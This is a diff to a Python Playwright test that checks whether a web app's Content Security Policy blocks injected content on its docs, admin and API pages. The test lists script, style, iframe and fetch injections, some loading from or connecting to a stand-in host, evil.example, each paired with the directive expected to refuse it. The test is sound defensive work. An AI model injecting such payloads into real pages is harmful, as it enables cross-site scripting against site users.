@@ -122,22 +122,23 @@ def test_the_browsable_api_leads_on(admin: Visitor) -> None:
     page.locator("textarea[name=_content]").wait_for(state="visible")
 
 
+# What refuses it, and the script that tries it.
 INTRUSIONS = [
-    "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">')",
-    "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.broken = 1'}))",
-    "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
-    "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
-    "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.broken = 1\" id=\"trap\">'); trap.click()",
-    "fetch('https://evil.example/').catch(() => {})",
+    ("style-src-attr: inline", "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">')"),
+    ("style-src-elem: inline", "document.body.insertAdjacentHTML('beforeend', '<style>p { color: red }</style>')"),
+    ("script-src-elem: inline", "document.body.append(make('script', {textContent: 'window.broken = 1'}))"),
+    ("script-src-elem: https://evil", "document.body.append(make('script', {src: 'https://evil.example/x.js'}))"),
+    ("script-src-attr: inline", "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.broken = 1\">')"),
+    ("frame-src: https://evil", "document.body.append(make('iframe', {src: 'https://evil.example/'}))"),
+    ("connect-src: https://evil", "fetch('https://evil.example/').catch(() => {})"),
 ]
 
 
 @pytest.mark.parametrize("path", ["/docs", "/redoc", "/admin/", f"{API}/models"])
 def test_what_is_smuggled_into_a_page_is_refused(admin: Visitor, path: str) -> None:
     page = admin.look_at(path)
-    for intrusion in INTRUSIONS:
-        admin.wrong.clear()
-        page.evaluate(f"{{ {intrusion} }}")
-        page.wait_for_timeout(200)
-        assert any("refused by" in line for line in admin.wrong), intrusion
+    page.evaluate("window.make = (name, values) => Object.assign(document.createElement(name), values)")
+    for refusal, intrusion in INTRUSIONS:
+        with page.expect_console_message(lambda message: f"refused by {refusal}" in message.text):  # noqa: B023
+            page.evaluate(f"{{ {intrusion} }}")
     assert page.evaluate("window.broken") is None
